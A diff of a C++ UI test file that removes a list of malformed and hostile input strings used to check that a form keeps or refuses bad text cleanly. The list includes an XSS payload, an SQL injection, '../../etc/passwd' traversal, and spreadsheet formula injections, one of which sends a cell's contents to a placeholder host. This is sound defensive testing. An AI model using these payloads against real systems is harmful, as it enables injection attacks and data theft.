@@ -2,84 +2,16 @@
 // record that has a form of its own: it is kept as typed or refused beside its field, it never
 // reaches the server broken, and what was typed in the other fields stays.
 
-#include <vector>
-
 #include "core/base/fold.h"
-#include "core/model/schema.h"
 #include "core/model/vocabulary.h"
+#include "tests/ui/bad_input.h"
 #include "tests/ui/journey_fixture.h"
-#include "tests/ui/lint.h"
-#include "wasm/ui/panels/form.h"
 
 namespace earshot::ui_test {
 namespace {
 
 using model::Field;
 using model::ValueType;
-
-const std::vector<std::string>& BadTexts() {
-  using namespace std::string_literals;
-  static const std::vector<std::string> kTexts = {
-      "\xED\xA0\x80 half a surrogate"s,
-      "overlong \xC0\xAF slash"s,
-      "\xEF\xBB\xBF after a byte order mark"s,
-      "nothing\0in the middle"s,
-      "\xEF\xBF\xBE no character",
-      "\x01\x02\x07\x1B[31m bell and escape\x7F",
-      "   ",
-      "a" + std::string(600, '\xCC') + "b",
-      [] {
-        std::string marks = "Zalgo a";
-        for (int i = 0; i < 300; ++i) marks += "\xCC\x81";
-        return marks;
-      }(),
-      "\xE2\x80\xAEgnp.exe overridden",
-      "family \xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F\x91\xA7",
-      "\xE2\x80\x8B\xE2\x80\x8B\xE2\x80\x8B",
-      "Ŵyl y ŷd, Zażółć, ਕਈ ਲੋਕਾਂ, بس شام چھ بجے بند",
-      "=HYPERLINK(\"http://x/?\"&A1)",
-      "+1",
-      "-1",
-      "@SUM(A1)",
-      "\t=1+1",
-      "＝1+1",
-      "\"=1",
-      "<script>alert(1)</script><img src=x onerror=alert(2)>",
-      "javascript:alert(1)",
-      "'; DROP TABLE documents; --",
-      "{{7*7}} ${7*7} %n%s%x",
-      "../../etc/passwd",
-      "__proto__",
-      "constructor",
-      "undefined null NaN Infinity true",
-      "1e999",
-      "9223372036854775808",
-      "\xF0\x9D\x94\x98\xF0\x9D\x94\xAB\xF0\x9D\x94\xA6 mathematical letters",
-      "ﬃ ligature and K kelvin",
-  };
-  return kTexts;
-}
-
-bool IsTyped(const Field& field) {
-  return panels::IsAsked(field) && !panels::IsChoiceSet(field) &&
-         (field.type == ValueType::kLine || field.type == ValueType::kProse ||
-          field.type == ValueType::kInteger);
-}
-
-// Every text within, keys too.
-void ExpectCleanTexts(const base::Json& value) {
-  if (value.is_string()) {
-    const std::string text = base::AsString(value);
-    EXPECT_TRUE(base::IsValidUtf8(text));
-    for (const char c : text) {
-      EXPECT_TRUE(static_cast<unsigned char>(c) >= 0x20 || c == '\n' || c == '\t')
-          << "a control character in " << text;
-    }
-  }
-  if (value.is_object() || value.is_array()) {
-    for (const base::Json& part : value) ExpectCleanTexts(part);
-  }
-}
 
 class BadInputJourney : public SignedInJourney,
                         public testing::WithParamInterface<std::string_view> {
